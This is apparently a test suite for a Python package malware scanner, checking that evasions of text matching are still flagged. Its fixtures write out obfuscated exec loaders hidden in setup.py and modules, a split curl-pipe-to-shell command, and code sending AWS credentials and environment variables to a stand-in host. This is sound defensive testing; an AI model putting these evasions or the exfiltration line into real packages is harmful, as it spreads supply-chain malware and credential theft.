/** Known ways around scanners that match text: every one must still be at least suspicious. */
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { MODEL } from '../../src/score/model.ts';
import type { CaseMember } from './support/distribution.ts';
import { fromCase } from './support/distribution.ts';
import { scanned } from './support/examples.ts';

const setup = (text: string): CaseMember[] => [
  { path: 'setup.py', text: `${text}\nfrom setuptools import setup\nsetup(name="pkg", version="1.0")\n` },
];
const module = (text: string): CaseMember[] => [{ path: 'pkg/__init__.py', text: `${text}\n` }];

/** print(1), xored with 7. */
const XORED = 'bytes([119, 117, 110, 105, 115, 47, 54, 46])';

const EVASIONS: [name: string, rule: string, members: CaseMember[]][] = [
  [
    'a triple quote before the payload',
    'execution/decode-then-exec',
    setup('q = \'"""\'\n# \'\'\'\nimport base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
  ],
  [
    'a rebound built-in and a from-import',
    'execution/decode-then-exec',
    setup('from base64 import b64decode as d\ne = exec\ne(d("cHJpbnQoMSk="))'),
  ],
  [
    'a shell command in pieces',
    'command/download-execute',
    setup('import os\nos.system("cu" + "rl https://code.invalid/x | s" + "h")'),
  ],
  [
    'a module name in pieces',
    'execution/fetch-then-exec',
    module('exec(__import__("re" + "quests").get("https://code.invalid/x").text)'),
  ],
  [
    'an attribute name in pieces',
    'obfuscation/hidden-execution',
    module('import builtins as b, base64\ngetattr(b, "ex" + "ec")(base64.b64decode("cHJpbnQoMSk="))'),
  ],
  [
    'download, write and run in a module',
    'execution/download-then-run',
    module(
      'import requests, subprocess\np = "/tmp/p"\nopen(p, "wb").write(requests.get("https://files.invalid/p").content)\nsubprocess.run([p])',
    ),
  ],
  [
    'environment and keys to a host of its own',
    'exfiltration/environment',
    module(
      'import os, requests\nk = open(os.path.expanduser("~/." + "aws/cred" + "entials")).read()\nrequests.post("https://own.example/c", json={"e": dict(os.environ), "k": k})',
    ),
  ],
  [
    'payload in a text file',
    'execution/runs-own-data-file',
    module('import os\nexec(open(os.path.join(os.path.dirname(__file__), "words.txt")).read())'),
  ],
  [
    'payload in bytecode',
    'binary/bytecode-differs',
    [
      { path: 'pkg/core.py', text: 'A = 1\n' },
      { path: 'pkg/core.pyc', builder: 'hostileBytecode' },
    ],
  ],
  [
    'marshal behind zlib behind aliases',
    'execution/decode-then-exec',
    module(
      'import marshal as m, zlib as z\nfrom base64 import b64decode as d\nexec(m.loads(z.decompress(d("eJwLBgAAVABU"))))',
    ),
  ],
  [
    'bytes xored one by one',
    'execution/computed-code',
    module(`exec(bytes(b ^ 7 for b in ${XORED}).decode())`),
  ],
  [
    'names from character codes',
    'execution/computed-code',
    module('exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))'),
  ],
  [
    'payload in a nested zip',
    'execution/decode-then-exec',
    [
      {
        path: 'pkg/data.zip',
        zip: [{ path: 'inner.py', text: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' }],
      },
      {
        path: 'pkg/__init__.py',
        text: 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "data.zip"))\nimport inner\n',
      },
    ],
  ],
  [
    'a dangling link beside the payload',
    'execution/decode-then-exec',
    [
      { path: 'docs/missing', link: 'nowhere' },
      ...setup('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
    ],
  ],
  [
    'megabytes of zeros beside the payload',
    'execution/decode-then-exec',
    [
      { path: 'pkg/zeros.bin', text: '\0'.repeat(4 * 1024 * 1024) },
      ...setup('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
    ],
  ],
];

suite('evasions of text matching', () => {
  for (const [name, rule, members] of EVASIONS) {
    test(name, () => {
      const { findings, score } = scanned(fromCase({ archive: 'sdist', members }));
      const rules = [...new Set(findings.map((finding) => finding.rule))].join(' ');
      assert.ok(rules.split(' ').includes(rule), `${rule} is silent; instead: ${rules}`);
      assert.ok(score >= MODEL.thresholds.suspicious, `${score}: ${rules}`);
    });
  }
});

suite('honest code that text matching convicts', () => {
  const HONEST: [name: string, members: CaseMember[]][] = [
    ['setup.py that imports quote', setup('from urllib.parse import quote\nNAME = quote("a b")')],
    ['setup.py that imports socket', setup('import socket')],
    [
      'a client that names a messenger',
      module(
        'import requests\nclass Bot:\n    URL = "https://api.telegram.org"\n    def send(self, token, text):\n        return requests.post(self.URL + "/bot" + token + "/sendMessage", json={"text": text})',
      ),
    ],
  ];
  for (const [name, members] of HONEST) {
    test(name, () => {
      const { findings, score } = scanned(fromCase({ archive: 'sdist', members }));
      assert.ok(
        score < MODEL.thresholds.suspicious,
        `${score}: ${findings.map((finding) => finding.rule).join(' ')}`,
      );
    });
  }
});
